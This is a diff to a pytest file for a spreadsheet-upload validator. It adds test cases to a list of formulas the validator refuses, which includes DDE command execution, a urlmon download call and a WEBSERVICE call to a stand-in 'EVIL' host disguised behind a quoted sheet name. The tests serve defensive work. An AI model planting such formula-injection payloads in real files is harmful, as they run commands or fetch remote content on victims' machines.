@@ -32,6 +32,7 @@ def named(attributes: str) -> bytes:
         "=cmd|'/c calc'!A0",
         '=IF(1, RTD("server",,"x"), 0)',
         '=CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
+        f"""='a"b'!A1&WEBSERVICE("{EVIL}")""",  # the quote in the name of a sheet begins no text
     ],
 )
 def test_a_formula_that_fetches_or_starts_something_is_refused(formula):
@@ -39,7 +40,14 @@ def test_a_formula_that_fetches_or_starts_something_is_refused(formula):
 
 
 @pytest.mark.parametrize(
-    "formula", ['=HYPERLINK("https://example.org/", "more")', '=SUM(A1:A3)&"call (us)"', '=IF(A1<>"a|b!",1,2)', 7]
+    "formula",
+    [
+        '=HYPERLINK("https://example.org/", "more")',
+        '=SUM(A1:A3)&"call (us)"',
+        '=IF(A1<>"a|b!",1,2)',
+        "=\"it's a call (us)\"&'x\"y'!A1",
+        7,
+    ],
 )
 def test_an_ordinary_formula_is_taken(formula):
     check_published(xlsx(formula=formula), ".xlsx")
